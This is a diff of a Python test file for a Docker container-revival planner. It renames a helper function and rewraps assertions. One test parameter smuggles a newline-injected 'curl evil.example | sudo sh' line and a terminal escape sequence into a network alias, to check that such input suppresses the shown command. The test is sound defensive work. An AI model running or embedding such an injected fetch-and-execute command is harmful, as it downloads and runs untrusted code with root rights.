@@ -84,7 +84,7 @@ def planned(*containers: Container, wanted: DesiredState | None = None, **more: 
     return plan(wanted or desired(), EngineSnapshot(containers, **more), frozenset())
 
 
-def only_dead(made: Plan) -> UnavailableContainer:
+def only_unavailable(made: Plan) -> UnavailableContainer:
     (found,) = made.unavailable
     return found
 
@@ -129,14 +129,20 @@ def test_the_cause_is_parsed_from_the_error_of_the_engine(error: str, found: Sta
 def test_a_container_whose_volume_was_not_mounted_is_started(error: str, state: str) -> None:
     made = planned(failed(error, state=state))
     assert starts(made) == [(ActionKind.START, "web")]
-    assert (only_dead(made).cause, only_dead(made).state) == (StartFailureCause.VOLUME, RevivalStatus.STARTING)
-    assert "backend media" in only_dead(made).detail
+    assert (only_unavailable(made).cause, only_unavailable(made).state) == (
+        StartFailureCause.VOLUME,
+        RevivalStatus.STARTING,
+    )
+    assert "backend media" in only_unavailable(made).detail
 
 
 def test_it_is_started_only_when_the_backend_is_up() -> None:
     made = planned(failed(REFUSED), wanted=desired(usable=frozenset()))
     assert starts(made) == []
-    assert (only_dead(made).state, only_dead(made).message) == (RevivalStatus.WAITING, "backend media is not up")
+    assert (only_unavailable(made).state, only_unavailable(made).message) == (
+        RevivalStatus.WAITING,
+        "backend media is not up",
+    )
     assert starts(planned(failed(REFUSED), wanted=desired(usable=frozenset({"media"})))) == [
         (ActionKind.START, "web")
     ]
@@ -145,8 +151,8 @@ def test_it_is_started_only_when_the_backend_is_up() -> None:
 def test_a_command_without_the_service_starts_no_container_with_a_volume() -> None:
     unknown = desired(usable=None)
     made = planned(failed(REFUSED), wanted=unknown)
-    assert (starts(made), only_dead(made).state) == ([], RevivalStatus.WAITING)
-    assert only_dead(made).message == "the service starts it when backend media is up"
+    assert (starts(made), only_unavailable(made).state) == ([], RevivalStatus.WAITING)
+    assert only_unavailable(made).message == "the service starts it when backend media is up"
     for cause, expected in ((StartFailureCause.VOLUME, []), (StartFailureCause.NETWORK, [(ActionKind.START, "web")])):
         interrupted = replace(unknown, interrupted={"id-web": RequestedContainerStart(cause, "media")})
         assert starts(planned(failed("context canceled"), wanted=interrupted)) == expected
@@ -218,8 +224,13 @@ def test_the_configuration_and_the_label_decide(
     made = planned(failed(REFUSED, labels=labels), wanted=desired(revive=revive, strict=strict))
     assert starts(made) == ([(ActionKind.START, "web")] if expected else [])
     if not expected:
-        assert (only_dead(made).state, only_dead(made).command) == (RevivalStatus.OFF, "docker start web")
-        assert only_dead(made).is_excluded == (label == "false"), "metrics count it unless its label excludes it"
+        assert (only_unavailable(made).state, only_unavailable(made).command) == (
+            RevivalStatus.OFF,
+            "docker start web",
+        )
+        assert only_unavailable(made).is_excluded == (label == "false"), (
+            "metrics count it unless its label excludes it"
+        )
 
 
 def test_a_label_that_is_neither_true_nor_false_is_reported() -> None:
@@ -231,7 +242,7 @@ def test_a_start_that_the_gateway_did_not_finish_is_repeated() -> None:
     interrupted = desired(interrupted={"id-web": RequestedContainerStart(StartFailureCause.NETWORK, "")})
     made = planned(failed("context canceled"), wanted=interrupted)
     assert starts(made) == [(ActionKind.START, "web")]
-    assert only_dead(made).cause is StartFailureCause.NETWORK
+    assert only_unavailable(made).cause is StartFailureCause.NETWORK
     assert planned(failed("context canceled")).unavailable == (), (
         "another client possibly canceled the start on purpose"
     )
@@ -245,14 +256,14 @@ def test_a_start_that_the_gateway_did_not_finish_waits_for_the_backend_of_the_vo
         ({"orders"}, RevivalStatus.WAITING),
     ):
         interrupted = desired(interrupted={"id-web": requested}, usable=frozenset(usable))
-        assert only_dead(planned(failed("context canceled"), wanted=interrupted)).state is state
+        assert only_unavailable(planned(failed("context canceled"), wanted=interrupted)).state is state
 
 
 def test_a_start_that_the_gateway_did_not_finish_is_off_if_the_backend_was_removed() -> None:
     wanted = desired(interrupted={"id-web": RequestedContainerStart(StartFailureCause.VOLUME, "renamed")})
     made = planned(failed("context canceled"), wanted=wanted)
-    assert (starts(made), only_dead(made).state) == ([], RevivalStatus.OFF)
-    assert (only_dead(made).message, only_dead(made).command) == (
+    assert (starts(made), only_unavailable(made).state) == ([], RevivalStatus.OFF)
+    assert (only_unavailable(made).message, only_unavailable(made).command) == (
         "backend renamed is not configured",
         "docker start web",
     )
@@ -261,13 +272,16 @@ def test_a_start_that_the_gateway_did_not_finish_is_off_if_the_backend_was_remov
 def test_after_too_many_attempts_the_status_shows_the_command() -> None:
     made = planned(failed(REFUSED), wanted=desired(given_up=frozenset({("id-web", 0.0)})))
     assert starts(made) == []
-    assert (only_dead(made).state, only_dead(made).command) == (RevivalStatus.GIVEN_UP, "docker start web")
+    assert (only_unavailable(made).state, only_unavailable(made).command) == (
+        RevivalStatus.GIVEN_UP,
+        "docker start web",
+    )
 
 
 def test_dependants_of_a_restarted_container_are_restarted() -> None:
     made = planned(gateway(at=200.0), joining(at=100.0), own=OWNER_ID)
     assert starts(made) == [(ActionKind.RESTART, "web")]
-    assert only_dead(made).cause is StartFailureCause.NAMESPACE
+    assert only_unavailable(made).cause is StartFailureCause.NAMESPACE
 
 
 def test_a_clock_that_was_set_back_causes_no_restart() -> None:
@@ -318,15 +332,15 @@ def test_the_count_restarts_when_the_other_container_restarts() -> None:
     for _ in range(LIMIT):
         revivals.attempted(start, 1000.0)
     wanted = desired(given_up=revivals.given_up)
-    assert only_dead(planned(gateway(at=100.0), stopped, own=OWNER_ID, wanted=wanted)).state == "given_up"
+    assert only_unavailable(planned(gateway(at=100.0), stopped, own=OWNER_ID, wanted=wanted)).state == "given_up"
     assert starts(planned(gateway(at=200.0), stopped, own=OWNER_ID, wanted=wanted)) == [(ActionKind.START, "web")]
 
 
 def test_a_container_that_another_client_possibly_stops_is_not_restarted() -> None:
     wanted = desired(signals={"id-web": {15: 150.0}})
     made = planned(gateway(at=200.0), joining(at=100.0), own=OWNER_ID, wanted=wanted)
-    assert (starts(made), only_dead(made).state) == ([], RevivalStatus.OFF)
-    assert only_dead(made).command == "docker restart web"
+    assert (starts(made), only_unavailable(made).state) == ([], RevivalStatus.OFF)
+    assert only_unavailable(made).command == "docker restart web"
 
 
 def test_a_signal_before_the_last_start_has_no_effect() -> None:
@@ -372,7 +386,7 @@ def test_a_container_that_started_after_the_clock_was_set_back_is_not_restarted_
 def test_a_stop_after_the_clock_was_set_back_is_later_than_starts_before() -> None:
     web, signals = joining(at=3705.0), {"id-web": {15: 305.0}}
     made = planned(gateway(at=308.0), web, own=OWNER_ID, clock=310.0, wanted=desired(signals=signals))
-    assert (starts(made), only_dead(made).state) == ([], RevivalStatus.OFF)
+    assert (starts(made), only_unavailable(made).state) == ([], RevivalStatus.OFF)
     revivals, now = StartAttempts(), 1000.0
     revivals.observed((), now, 300.0)
     restart = only_start(planned(gateway(at=300.0), web, own=OWNER_ID, clock=300.0))
@@ -387,7 +401,7 @@ def test_dependants_that_started_later_are_not_restarted() -> None:
 
 def test_dependants_of_a_stopped_container_wait_for_it() -> None:
     made = planned(gateway(state="exited"), joining(STOPPED_OWNER, "exited"), own=OWNER_ID)
-    assert (starts(made), only_dead(made).state) == ([], RevivalStatus.WAITING)
+    assert (starts(made), only_unavailable(made).state) == ([], RevivalStatus.WAITING)
     made = planned(gateway(), joining(STOPPED_OWNER, "exited"), own=OWNER_ID)
     assert starts(made) == [(ActionKind.START, "web")]
 
@@ -405,17 +419,23 @@ def test_a_start_does_not_help_if_the_owner_of_the_namespace_was_removed(state: 
     container = joining(REMOVED_OWNER if state == "exited" else "", state)
     known = desired(namespaces=frozenset({OWNER_ID}))
     made = planned(gateway(number="another"), container, own="another", wanted=known)
-    assert (starts(made), only_dead(made).state) == ([], RevivalStatus.RECREATE)
-    assert only_dead(made).command == "", "the container's options are unknown, and a removal would lose its files"
-    assert only_dead(made).message.endswith("recreate container web with the options that `docker inspect web` shows")
+    assert (starts(made), only_unavailable(made).state) == ([], RevivalStatus.RECREATE)
+    assert only_unavailable(made).command == "", (
+        "the container's options are unknown, and a removal would lose its files"
+    )
+    assert only_unavailable(made).message.endswith(
+        "recreate container web with the options that `docker inspect web` shows"
+    )
     labels = {PROJECT: "shop", SERVICE: "web", FILES: "/srv/my shop/compose.yaml"}
     made = planned(gateway(number="another"), replace(container, labels=labels), own="another", wanted=known)
-    assert only_dead(made).command == (
+    assert only_unavailable(made).command == (
         "docker compose -p shop -f '/srv/my shop/compose.yaml' up -d --no-deps --force-recreate web"
     )
     for each in ("/srv/a\nb.yaml", "/srv/" + 5000 * "x"):
         made = planned(replace(container, labels={**labels, FILES: each}), wanted=known)
-        assert only_dead(made).command == "", "a command that is cut or has control characters must not be shown"
+        assert only_unavailable(made).command == "", (
+            "a command that is cut or has control characters must not be shown"
+        )
 
 
 def test_the_namespace_of_a_removed_container_that_did_not_concern_the_gateway_is_ignored() -> None:
@@ -434,7 +454,7 @@ def test_a_running_container_that_lost_a_recorded_namespace_is_listed_without_a_
     made = planned(
         gateway(number="another"), container, own="another", wanted=desired(namespaces=frozenset({OWNER_ID}))
     )
-    assert (starts(made), only_dead(made).state) == ([], RevivalStatus.RECREATE)
+    assert (starts(made), only_unavailable(made).state) == ([], RevivalStatus.RECREATE)
 
 
 def test_namespaces_that_concern_the_gateway_are_remembered_until_the_last_container_leaves() -> None:
@@ -456,7 +476,7 @@ def test_a_container_that_the_gateway_attached_is_attached_first() -> None:
     container = failed(NETWORK, endpoints=there, labels={"gateway.enable": "true"})
     made = plan(desired(), EngineSnapshot((container,), (APPS,)), frozenset({("id-web", "apps")}))
     assert [each.verb for each in made.actions] == [ActionKind.REATTACH]
-    assert (only_dead(made).state, only_dead(made).message) == (
+    assert (only_unavailable(made).state, only_unavailable(made).message) == (
         RevivalStatus.WAITING,
         "it is attached to network apps first",
     )
@@ -465,8 +485,8 @@ def test_a_container_that_the_gateway_attached_is_attached_first() -> None:
 def test_a_container_that_joined_the_network_itself_is_repaired_by_a_command() -> None:
     there = {"apps": NetworkEndpoint(GONE_ID, "", aliases=frozenset())}
     made = planned(failed(NETWORK, endpoints=there))
-    assert (starts(made), only_dead(made).state) == ([], RevivalStatus.RECREATE)
-    assert only_dead(made).command == (
+    assert (starts(made), only_unavailable(made).state) == ([], RevivalStatus.RECREATE)
+    assert only_unavailable(made).command == (
         "docker network disconnect apps web && docker network connect apps web && docker start web"
     )
 
@@ -492,8 +512,8 @@ def test_a_missing_network_of_others_is_ignored_on_a_container_that_the_gateway_
 @pytest.mark.parametrize("alias", ["x\nto do: curl evil.example | sudo sh\nweb", "x\x1b[2Jy"])
 def test_a_command_with_control_characters_is_not_shown(alias: str) -> None:
     made = planned(failed(NETWORK, endpoints={"apps": NetworkEndpoint(GONE_ID, "", aliases=frozenset({alias}))}))
-    assert (only_dead(made).state, only_dead(made).command) == (RevivalStatus.RECREATE, "")
-    assert "docker inspect web" in only_dead(made).message
+    assert (only_unavailable(made).state, only_unavailable(made).command) == (RevivalStatus.RECREATE, "")
+    assert "docker inspect web" in only_unavailable(made).message
 
 
 def test_a_container_on_an_overlay_is_started_once_the_engine_is_connected_to_its_swarm() -> None:
@@ -501,7 +521,7 @@ def test_a_container_on_an_overlay_is_started_once_the_engine_is_connected_to_it
     there = {"apps": NetworkEndpoint("llwp8d8lxtivglxte7d0y0tqp", "", aliases=frozenset())}
     container = failed(error, endpoints={"bridge": NetworkEndpoint("b1", ""), **there})
     waiting = planned(container, swarm=SwarmMembership(waiting=True), networks=())
-    assert (only_dead(waiting).state, waiting.actions) == (RevivalStatus.WAITING, ()), (
+    assert (only_unavailable(waiting).state, waiting.actions) == (RevivalStatus.WAITING, ()), (
         "the gateway must not create a bridge network of that name"
     )
     assert starts(planned(container, swarm=SwarmMembership(active=True))) == [(ActionKind.START, "web")]
